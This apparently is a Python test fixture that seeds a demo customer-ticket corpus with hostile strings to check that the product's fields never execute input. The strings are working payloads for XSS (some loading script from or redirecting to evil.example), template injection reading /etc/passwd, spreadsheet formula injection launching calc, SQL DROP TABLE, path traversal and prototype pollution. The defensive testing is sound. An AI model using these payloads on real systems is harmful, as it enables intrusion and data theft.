"""Texts that try to be more than text, for every field a person can type into and every place where
a customer's words are shown."""

import csv
from pathlib import Path

NAUGHTY = (
    "<script>window.hacked=1;alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    '"><script src="//evil.example/x.js"></script>',
    "'\" autofocus onfocus=alert(4) x='",
    '<a href="javascript:alert(5)">click</a>',
    "javascript:alert(6)",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<style>*{display:none!important}</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=csrf><button>send",
    "</textarea></title></select></script><b>out</b>",
    "<!-- <b>comment",
    "]]><b>cdata</b>",
    "&lt;b&gt;twice&amp;amp;&#x41;",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{# x #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '{"__proto__": {"hacked": 1}}',
    '=HYPERLINK("http://evil.example","pay")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "'; DROP TABLE touchpoints; --",
    "..\\..\\../etc/passwd",
    "\u202eevil\u202c tfel ot thgir",
    "\u2066isolate\u2069 \u200b\u200dzero\u200bwidth\ufeff",
    "W" * 200,
    "a\u0301\u0323" * 12,
    "👩‍👩‍👧‍👦🏳️‍🌈🇬🇧 家族 عائلة משפחה",
    "null",
    "NaN",
    "undefined",
    "None",
    "0",
    "%00%0a%3Cb%3E",
    "﷽ 𝕿𝖊𝖘𝖙 ｆｕｌｌ",
    "C:\\con\\aux.txt ~/.ssh",
)
"""Each is one line that a reviewer may type; none of them may ever do anything."""

CATALOGUE = (
    {
        "name": '<img src=x onerror=alert("name")>',
        "definition": "The <b>paper form</b> on the counter </dd></dl><script>alert(7)</script>.",
        "stage": "Land",
        "channel": "<i>paper</i>",
        "owner": "\"><script>alert('owner')</script>",
        "effort": "2",
        "aliases": "counter form; {{ 7 * 7 }}; paper form",
        "examples": "The counter form was lost | I filled in the paper form twice",
    },
)
"""A touchpoint that the business itself has named badly."""

_FIELDS = ("ticket_id", "customer_id", "date", "channel", "subject", "body", "status")


def poison(corpus: Path, period: str) -> None:
    """Put hostile texts into a copy of the demo corpus: a touchpoint, and what customers say."""
    with (corpus / "touchpoints.csv").open("a", newline="", encoding="utf-8") as file:
        csv.DictWriter(file, list(CATALOGUE[0])).writerows(CATALOGUE)
    path = corpus / "sources" / period / "tickets" / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(_FIELDS)
        for number, text in enumerate(NAUGHTY):
            body = f"The counter form is terrible, it printed {text} and I had to fill it in again."
            customer = f"C{number % 40 + 1:03}"
            writer.writerow(
                (f"H-{number}", customer, "2026-09-01", "e-mail", "counter form", body, "open")
            )
    settings = corpus / "corpus.toml"
    settings.write_text(
        settings.read_text("utf-8").replace("tickets/tickets.csv", "tickets/*.csv"), "utf-8"
    )
